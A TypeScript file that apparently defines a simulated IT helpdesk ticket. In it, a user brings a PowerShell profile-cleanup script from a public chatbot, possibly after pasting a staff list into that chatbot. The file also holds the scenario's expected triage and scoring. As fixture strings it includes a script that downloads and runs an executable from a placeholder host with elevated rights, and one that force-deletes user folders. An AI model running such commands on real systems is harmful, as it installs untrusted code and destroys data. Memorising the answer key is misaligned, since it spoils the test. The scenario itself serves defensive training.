import { SECONDS_PER_MINUTE } from '../../../../kernel/time.ts';
import type { DeskCommand } from '../../../model/commands.ts';
import type { Condition } from '../../../model/condition.ts';
import type { DeskState } from '../../../model/state.ts';
import type { Voice } from '../../../model/voice.ts';
import type { SentScript, Upload } from '../../../world/sent-scripts.ts';
import type { RightEnd, Scene, TicketCase, TicketSetting, TriageKey } from '../../desk-case.ts';
import { begun, callBack, finished, reply, say } from '../shared/expert-steps.ts';
import { securityKnewInTime, wasAnswered } from '../shared/goals.ts';
import { drawn, person } from '../shared/scene.ts';
import { linesOf } from '../shared/voice-lines.ts';
import { requesterVoice } from '../shared/voices.ts';
import { HELPFUL_CHATBOT } from './tk-56-story.ts';

type Truth = 'list-disclosed' | 'made-up-list' | 'fetches-program' | 'reviewed-script';

const TRUTHS: readonly Truth[] = ['list-disclosed', 'made-up-list', 'fetches-program', 'reviewed-script'];

const NAME = 'Clean-Profiles.ps1';
const DAYS = [60, 90] as const;

const SCRIPT_LINES: Readonly<Record<SentScript['does'], (days: number) => readonly string[]>> = {
  'deletes-by-age': (days) => [
    `$old = (Get-Date).AddDays(-${days})`,
    "Get-ChildItem 'C:\\Users' -Directory |",
    '  Where-Object LastWriteTime -lt $old |',
    '  Remove-Item -Recurse -Force -ErrorAction SilentlyContinue',
  ],
  'fetches-program': (days) => [
    `$old = (Get-Date).AddDays(-${days})`,
    "$tool = 'https://profile-tools.example.net/clean.exe'",
    'Invoke-WebRequest $tool -OutFile "$env:TEMP\\clean.exe"',
    'Start-Process "$env:TEMP\\clean.exe" -ArgumentList "/quiet", $old -Verb RunAs',
  ],
  'asks-before-deleting': (days) => [
    '[CmdletBinding(SupportsShouldProcess, ConfirmImpact = "High")] param()',
    `$old = (Get-Date).AddDays(-${days})`,
    'Get-CimInstance Win32_UserProfile |',
    '  Where-Object { -not $_.Loaded -and -not $_.Special -and $_.LastUseTime -lt $old } |',
    '  ForEach-Object { if ($PSCmdlet.ShouldProcess($_.LocalPath)) { Remove-CimInstance $_ } }',
  ],
};

const DOES: Readonly<Record<Truth, SentScript['does']>> = {
  'list-disclosed': 'deletes-by-age',
  'made-up-list': 'deletes-by-age',
  'fetches-program': 'fetches-program',
  'reviewed-script': 'asks-before-deleting',
};

function script(scene: Scene, truth: Truth): SentScript {
  const does = DOES[truth];
  return {
    name: NAME,
    lines: SCRIPT_LINES[does](drawn(scene, DAYS)),
    does,
    review: truth === 'reviewed-script' ? 'approved' : 'none',
    isTested: false,
    runs: 0,
  };
}

function upload(scene: Scene, truth: Truth): Upload {
  const at = scene.at - (scene.placement === 0 ? 50 : 130) * SECONDS_PER_MINUTE;
  return truth === 'list-disclosed'
    ? { at, to: 'public-assistant', holds: 'staff-list', rows: 420 }
    : { at, to: 'public-assistant', holds: 'made-up-names', rows: 12 };
}

const ACCEPTED: Condition = { said: 'requester.tell-declined.accepts' };
const REPORTED: Condition = { said: 'officer.disclosure.heard' };

function isReviewed(scene: Scene): Condition {
  return { reading: 'script-review', subject: person(scene).login, is: ['requested'] };
}

function hasRun(scene: Scene): Condition {
  return { reading: 'script-runs', subject: person(scene).login, is: ['run'] };
}

/** The person has what they may have, and who has to know of it knows. */
function isSettled(scene: Scene, truth: Truth): Condition {
  switch (truth) {
    case 'list-disclosed':
      return { all: [ACCEPTED, isReviewed(scene), REPORTED] };
    case 'made-up-list':
      return { all: [ACCEPTED, isReviewed(scene)] };
    case 'fetches-program':
      return ACCEPTED;
    case 'reviewed-script':
      return hasRun(scene);
  }
}

function requester(scene: Scene, truth: Truth): Voice {
  const { say: line, tell, confirm } = linesOf('TK-56', 'requester');
  return requesterVoice('TK-56', scene, { patience: 4, skill: 2, mood: 0 }, [
    tell('what-pasted', 'pasted', truth === 'list-disclosed' ? 'staff-list' : 'made-up'),
    tell('who-reviewed', 'reviewed', truth === 'reviewed-script' ? 'yes' : 'no'),
    truth === 'reviewed-script'
      ? line('tell-declined', 'tell-declined.protests', { mood: -1 })
      : line('tell-declined', 'tell-declined.accepts'),
    line('explain-limits', 'explain-limits'),
    line('report-disclosure', 'not-mine'),
    line('what-changed', 'why'),
    line('how-urgent', 'urgent'),
    ...confirm(isSettled(scene, truth)),
  ]);
}

/** Who has to know when data of people has left the company. */
function officer(scene: Scene, truth: Truth): Voice {
  const { tell } = linesOf('TK-56', 'officer');
  const outcome = truth === 'list-disclosed' ? 'heard' : 'no-case';
  return {
    role: 'owner',
    person: person(scene, 'officer').id,
    persona: { patience: 4, skill: 1, mood: 0 },
    opens: 'tickets/tk-56:line.officer.opens',
    lines: [tell('report-disclosure', 'disclosure', outcome)],
  };
}

function setting(scene: Scene, truth: Truth): TicketSetting {
  const { login } = person(scene);
  return {
    effects: [
      { do: 'put-script', login, script: script(scene, truth) },
      { do: 'put-upload', login, upload: upload(scene, truth) },
    ],
    voices: [requester(scene, truth), officer(scene, truth)],
    trouble: null,
    number: null,
  };
}

const REQUEST: TriageKey = {
  category: 'request',
  subcategories: ['software', 'change', 'other-request'],
  impact: 3,
  urgency: 2,
  isSecurityCase: false,
};

const TRIAGE: Readonly<Record<Truth, TriageKey>> = {
  'list-disclosed': {
    ...REQUEST,
    category: 'privacy',
    subcategories: ['data-exposure'],
    isSecurityCase: true,
  },
  'made-up-list': REQUEST,
  'fetches-program': {
    ...REQUEST,
    category: 'security',
    subcategories: ['malware', 'policy'],
    isSecurityCase: true,
  },
  'reviewed-script': REQUEST,
};

const RIGHT_END: Readonly<Record<Truth, RightEnd>> = {
  'list-disclosed': { kind: 'resolved', codes: ['rejected'] },
  'made-up-list': { kind: 'resolved', codes: ['rejected'] },
  'fetches-program': { kind: 'escalated', group: 'security', mustName: ['script-effect@account'] },
  'reviewed-script': { kind: 'resolved', codes: ['request-fulfilled'] },
};

function answered(scene: Scene, ...intents: readonly string[]): DeskCommand {
  return reply(scene.number, ['thanks', ...intents]);
}

/** Declines, says why, and tells the way that is open: the review. */
function declined(scene: Scene): readonly DeskCommand[] {
  return [{ kind: 'request-review', login: person(scene).login }, callBack(scene)];
}

function ending(scene: Scene, truth: Truth): readonly DeskCommand[] {
  const ticket = scene.number;
  const { login } = person(scene);
  switch (truth) {
    case 'list-disclosed':
      return [
        { kind: 'dial', ticket, number: person(scene, 'officer').phone },
        say('C1', 'greeting', 'report-disclosure'),
        say('C1', 'thanks', 'goodbye'),
        { kind: 'end-call', contact: 'C1' },
        ...declined(scene),
        say('C2', 'tell-declined', 'explain-limits'),
        ...finished(scene, 'C2', { code: 'rejected', cause: truth, evidence: [1, 2] }),
      ];
    case 'made-up-list':
      return [
        ...declined(scene),
        say('C1', 'tell-declined', 'explain-limits'),
        ...finished(scene, 'C1', { code: 'rejected', cause: truth, evidence: [1, 2] }),
      ];
    case 'fetches-program':
      return [{ kind: 'escalate', ticket, group: 'security', evidence: [1, 2] }];
    case 'reviewed-script':
      return [
        { kind: 'test-script', login },
        { kind: 'run-script', login },
        callBack(scene),
        say('C1', 'greeting', 'who-reviewed'),
        ...finished(scene, 'C1', { code: 'request-fulfilled', cause: truth, evidence: [1, 2] }),
      ];
  }
}

/** Reads the script and what was given away before anything else; nothing is run to see what it does. */
function expert(scene: Scene, truth: Truth): readonly DeskCommand[] {
  const { login } = person(scene);
  return [
    { kind: 'open-ticket', ticket: scene.number },
    { kind: 'look', page: 'library.script', subject: login },
    { kind: 'look', page: 'cloud.uploads', subject: login },
    ...begun(scene, TRIAGE[truth]),
    answered(scene, ...(truth === 'fetches-program' ? ['what-pasted', 'tell-declined'] : ['what-pasted'])),
    ...ending(scene, truth),
  ];
}

function goals(scene: Scene, state: DeskState, truth: Truth) {
  const { login } = person(scene);
  const stepOf = (act: string): number | undefined =>
    state.acts.find((one) => one.act === act && one.subject === login)?.step;
  const explained = { id: 'limits-explained', met: wasAnswered(scene, state, 'requester.explain-limits') };
  switch (truth) {
    case 'list-disclosed':
      return [{ id: 'privacy-told', met: wasAnswered(scene, state, 'officer.disclosure.heard') }, explained];
    case 'made-up-list':
      return [explained];
    case 'fetches-program':
      return [securityKnewInTime(scene, state)];
    case 'reviewed-script': {
      const tested = stepOf('test-script');
      return [{ id: 'tested-first', met: tested !== undefined && tested < (stepOf('run-script') ?? 0) }];
    }
  }
}

/** The truths of TK-56. */
export const TK_56_CASES: readonly TicketCase[] = TRUTHS.map((truth) => ({
  id: `TK-56-${truth}`,
  story: HELPFUL_CHATBOT,
  truth,
  placements: 2,
  parMinutes: 20,
  triage: TRIAGE[truth],
  setting: (scene) => setting(scene, truth),
  rightEnd: RIGHT_END[truth],
  cured: (scene) => isSettled(scene, truth),
  goals: (scene, state) => goals(scene, state, truth),
  gates: (scene) => (truth === 'reviewed-script' ? [] : [{ id: 'script-run', when: hasRun(scene) }]),
  expert: (scene) => expert(scene, truth),
}));
